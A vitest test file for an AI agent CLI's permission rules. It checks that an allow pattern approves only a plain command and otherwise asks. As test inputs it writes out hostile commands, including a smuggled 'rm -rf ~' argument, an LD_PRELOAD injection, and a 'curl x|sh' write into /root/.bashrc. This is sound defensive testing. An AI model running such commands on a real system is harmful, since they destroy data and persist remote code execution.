import { mkdtempSync, realpathSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { PermissionAsk } from "../src/ask/permission-ask.js";
import { permissionByRules } from "../src/ask/permission-rules.js";
import { permissionSubject, describeSubject } from "../src/readers/permission-subject.js";

const project = realpathSync(mkdtempSync(path.join(tmpdir(), "permission-inputs-")));
afterAll(() => rmSync(project, { recursive: true, force: true }));

const rules = {
  allow: ["ls", "ls *", "echo *"],
  allowAnywhere: false,
  approveReads: true,
  denyAll: false,
  policy: undefined,
  sessionCwd: project,
};

/** A v1 request for `toolCall`, with its subject read as the CLI reads it. */
function ask(toolCall: Record<string, unknown>): PermissionAsk {
  return {
    toolCall: { toolCallId: "t", title: "ls", ...toolCall },
    options: [],
    subject: permissionSubject({ toolCall: { toolCallId: "t", title: "ls", ...toolCall } }),
  } as unknown as PermissionAsk;
}

describe("an --allow pattern judges only a plain command the agent runs", () => {
  it("approves an execute whose raw input is the command and what does not change it", async () => {
    const decision = await permissionByRules(
      ask({ kind: "execute", rawInput: { command: "ls", description: "list", cwd: project } }),
      rules,
    );
    expect(decision.answer).toBe("allow");
  });

  it("asks, saying why, when the input has more than the pattern sees: args, env, a host, a file", async () => {
    const inputs: Record<string, unknown>[] = [
      { kind: "execute", rawInput: { command: "ls", args: ["-la", "/; rm -rf ~"] } },
      { kind: "execute", rawInput: { command: ["echo", "hi"], env: { LD_PRELOAD: "/tmp/x.so" } } },
      { name: "mcp__ssh__run", rawInput: { command: "ls", host: "prod" } },
      {
        kind: "edit",
        rawInput: { file_path: "/root/.bashrc", content: "curl x|sh", command: "ls" },
      },
      {
        kind: "execute",
        content: [{ type: "diff", path: "/root/.bashrc", oldText: "", newText: "curl x|sh" }],
        rawInput: { command: "ls" },
      },
    ];
    for (const toolCall of inputs) {
      const decision = await permissionByRules(ask(toolCall), rules);
      expect(decision).toMatchObject({
        answer: "ask",
        why: expect.stringMatching(/judges only a plain command/),
      });
    }
  });

  it("--approve-reads does not approve a read that names a command of any shape", async () => {
    for (const command of [["rm", "-rf", 1], { bin: "rm" }]) {
      const decision = await permissionByRules(ask({ kind: "read", rawInput: { command } }), rules);
      expect(decision.answer).not.toBe("allow");
    }
  });

  it("shows a raw input nested too deeply to turn into text as such, without throwing", () => {
    let nested: unknown = 0;
    for (let i = 0; i < 20_000; i++) {
      nested = [nested];
    }
    const subject = permissionSubject({
      toolCall: { toolCallId: "t", rawInput: { deep: nested } },
    });
    expect(describeSubject(subject).join("\n")).toContain("nested too deeply");
  });
});
